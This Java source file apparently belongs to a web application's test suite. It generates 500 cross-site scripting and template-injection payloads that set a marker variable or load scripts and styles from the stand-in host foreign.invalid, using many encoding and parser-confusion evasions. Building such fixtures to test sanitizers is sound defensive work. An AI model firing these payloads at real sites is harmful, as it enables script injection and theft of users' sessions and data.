package org.casus.app.web;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;

/**
 * Attempts to get a script into a page. Each would call for {@code casusHit}, or load something of
 * a host that does not exist, and has a word of its own, {@code pwn17}, to be told by.
 */
final class Payloads {
    /** How many there are. */
    static final int COUNT = 500;

    private static final List<String> HANDLERS =
            List.of(
                    "onload",
                    "onerror",
                    "onclick",
                    "onfocus",
                    "onmouseover",
                    "ontoggle",
                    "onbegin",
                    "onanimationstart",
                    "onpointerenter",
                    "oninput",
                    "onscroll",
                    "onbeforeprint");

    private static final List<String> TAGS =
            List.of(
                    "img src=x",
                    "svg",
                    "body",
                    "iframe",
                    "input autofocus",
                    "details open",
                    "video src=x",
                    "audio src=x",
                    "object data=x",
                    "embed src=x",
                    "marquee",
                    "select autofocus",
                    "textarea autofocus",
                    "animate attributeName=x dur=1s",
                    "link rel=stylesheet href=x",
                    "a href=x tabindex=1");

    /** What may stand open where the words of a report are put. */
    private static final List<String> ENDINGS =
            List.of(
                    "\">",
                    "'>",
                    "-->",
                    "--!>",
                    "</title>",
                    "</textarea>",
                    "</script>",
                    "</style>",
                    "</noscript>",
                    "</template>",
                    "</select>",
                    "</svg>",
                    "]]>",
                    "</option>",
                    "</button>",
                    "</dialog>",
                    "\" ",
                    "' ");

    private static final List<String> ADDRESSES =
            List.of(
                    "javascript:%s",
                    "JaVaScRiPt:%s",
                    "java\tscript:%s",
                    " javascript:%s",
                    "\u0001javascript:%s",
                    "javascript&colon;%s",
                    "javascript://x%%0a%s",
                    "&#106;avascript:%s",
                    "data:text/html,<script>%s</script>",
                    "vbscript:%s",
                    "//foreign.invalid/%s",
                    "\\\\foreign.invalid\\%s",
                    "http://foreign.invalid/%s");

    private static final List<String> PLACES =
            List.of(
                    "<a href=\"%s\">x</a>",
                    "<iframe src=\"%s\"></iframe>",
                    "<form action=\"%s\"><button>x</button></form>",
                    "<meta http-equiv=refresh content=\"0;url=%s\">",
                    "<base href=\"%s\">",
                    "<img src=\"%s\">",
                    "<svg><a xlink:href=\"%s\"><text>x</text></a></svg>",
                    "<object data=\"%s\"></object>",
                    "<link rel=stylesheet href=\"%s\">",
                    "<a hx-get=\"%s\" hx-trigger=load>x</a>",
                    "%s");

    private static final List<String> TEMPLATES =
            List.of(
                    "${%s}",
                    "{{%s}}",
                    "#{%s}",
                    "<%%= %s %%>",
                    "@if(true)%s@endif",
                    "!{%s}",
                    "{{constructor.constructor('%s')()}}",
                    "$unsafe{%s}",
                    "`${%s}`",
                    "[[${%s}]]",
                    "@template.layout(%s)",
                    "{%%raw%%}%s{%%endraw%%}",
                    "*{T(java.lang.Runtime).%s}");

    private static final List<String> JSON =
            List.of(
                    "\"};%s;//",
                    "'};%s;//",
                    "\\\";%s;//",
                    "\u2028%s\u2029",
                    "\"}</script><script>%s</script>",
                    "\",\"x\":\"<img src=x onerror=%s>",
                    "\\u003cscript\\u003e%s\\u003c/script\\u003e",
                    "*/%s/*",
                    "\n%s\n",
                    "');%s//",
                    "\"+%s+\"",
                    "</script/><script>%s</script >");

    private static final List<String> STYLES =
            List.of(
                    "<style>*{background:url(http://foreign.invalid/%s)}</style>",
                    "<style>@import '//foreign.invalid/%s';</style>",
                    "<p style=\"background:url(//foreign.invalid/%s)\">x</p>",
                    "}*{background:url(//foreign.invalid/%s)}",
                    "\" style=\"position:fixed;inset:0;background:url(//foreign.invalid/%s)",
                    "<link rel=prefetch href=//foreign.invalid/%s>",
                    "expression(%s)",
                    "<xss style=\"animation:%s 1s\" onanimationend=casusHit=1>");

    private final List<String> all = new ArrayList<>();

    private Payloads() {}

    /** All of them. */
    static List<String> all() {
        Payloads payloads = new Payloads();
        payloads.make();
        return payloads.all;
    }

    /** The word that the payload of a number is told by. */
    static String word(int number) {
        return "pwn" + number + "x";
    }

    private void make() {
        for (int round = 0; all.size() < COUNT; round++) {
            tags(round);
            endings(round);
            addresses(round);
            for (List<String> texts : List.of(TEMPLATES, JSON, STYLES)) {
                for (String text : texts) {
                    add(text.formatted(shouted(script(), round)));
                }
            }
            odd();
        }
    }

    private void add(String payload) {
        if (all.size() < COUNT) {
            all.add(payload.contains(word()) ? payload : payload + word());
        }
    }

    private String word() {
        return word(all.size());
    }

    /** What is to run. */
    private String script() {
        return "casusHit=(window.casusHit||'')+'" + word() + "'";
    }

    /** The second round is spelt in another way than the first. */
    private static String shouted(String text, int round) {
        return round % 2 == 0 ? text : "alert(1);" + text;
    }

    private void tags(int round) {
        for (int i = 0; i < TAGS.size(); i++) {
            for (int j = 0; j < 3; j++) {
                String handler = HANDLERS.get((i + 5 * j + round) % HANDLERS.size());
                String spelt = j == 1 ? handler.toUpperCase(Locale.ROOT) : handler;
                String between = List.of(" ", "/", "\n", "\t", "\f").get((i + j + round) % 5);
                add(
                        "<"
                                + TAGS.get(i)
                                + between
                                + word()
                                + "=1 "
                                + spelt
                                + (j == 2 ? " = " : "=")
                                + "\""
                                + script()
                                + "\">");
            }
        }
        add("<script>" + script() + "</script>");
        add("<ScRiPt >" + script() + "</sCrIpT >");
        add("<script src=//foreign.invalid/" + word() + "></script>");
        add("<script type=module>import '//foreign.invalid/" + word() + "'</script>");
        add("<scr<script>ipt>" + script() + "</scr</script>ipt>");
        add("<<script>" + script() + "//<</script>");
        add("<script>" + script());
        add("<svg><script>" + script() + "</script></svg>");
        add("<svg><style><img src=x onerror=\"" + script() + "\"></style></svg>");
        add("<math><mtext><table><mglyph><style><img src=x onerror=" + script() + ">");
        add("<svg><set attributeName=href to=\"javascript:" + script() + "\">");
        add("<iframe srcdoc=\"<script>parent." + script() + "</script>\"></iframe>");
        add("<template shadowrootmode=open><img src=x onerror=" + script() + "></template>");
        add("<" + word() + " contenteditable onblur=" + script() + " autofocus>");
    }

    private void endings(int round) {
        for (int i = 0; i < ENDINGS.size(); i++) {
            add(ENDINGS.get(i) + "<img src=x onerror=\"" + script() + "\">");
            String handler = HANDLERS.get((i + round) % HANDLERS.size());
            add(ENDINGS.get(i) + handler + "=\"" + script() + "\" autofocus x=\"");
        }
        for (String comment : List.of("<!--", "<!", "<?", "<![CDATA[", "<!-->", "</")) {
            add(comment + word() + "><script>" + script() + "</script>");
        }
    }

    private void addresses(int round) {
        for (int i = 0; i < ADDRESSES.size(); i++) {
            String address = ADDRESSES.get(i).formatted(shouted(script(), round));
            for (int j = 0; j < 4; j++) {
                add(PLACES.get((i + 3 * j + round) % PLACES.size()).formatted(address));
            }
        }
    }

    private void odd() {
        String base64 =
                Base64.getEncoder()
                        .encodeToString(
                                ("<script>" + script() + "</script>")
                                        .getBytes(StandardCharsets.UTF_8));
        add("<iframe src=\"data:text/html;base64," + base64 + "\">");
        add("\uFF1Cscript\uFF1E" + script() + "\uFF1C/script\uFF1E");
        add("\u02BA onload=\u02BA" + script());
        add("+ADw-script+AD4-" + script() + "+ADw-/script+AD4-");
        add("\u202E>tpircs<" + script());
        add("<scr\u200Bipt>" + script() + "</scr\u200Bipt>");
        add("<img src=x onerror\u00A0=" + script() + ">");
        add("&lt;script&gt;" + script() + "&lt;/script&gt;");
        add("&#60;script&#62;" + script() + "&#60;/script&#62;");
        add("&amp;lt;img src=x onerror=" + script() + "&amp;gt;");
        add("%3Cscript%3E" + script() + "%3C/script%3E");
        add("<\u0130MG src=x onerror=" + script() + ">");
        add("<img src=`x` onerror=`" + script() + "`>");
        add("<img \"\"\"><script>" + script() + "</script>\">");
        add("<img src=\"x\u2029\" onerror=" + script() + ">");
        add("\uFEFF<script>" + script() + "</script>");
        add("<div hx-on:click=\"" + script() + "\" hx-trigger=load>x</div>");
        add("<div data-hx-get=\"//foreign.invalid/" + word() + "\" data-hx-trigger=load>x</div>");
        add("<div id=main data-of=\"" + word() + "\" class=mark>x</div>");
        add("<form id=help><input name=showModal value=" + word() + "></form>");
    }
}
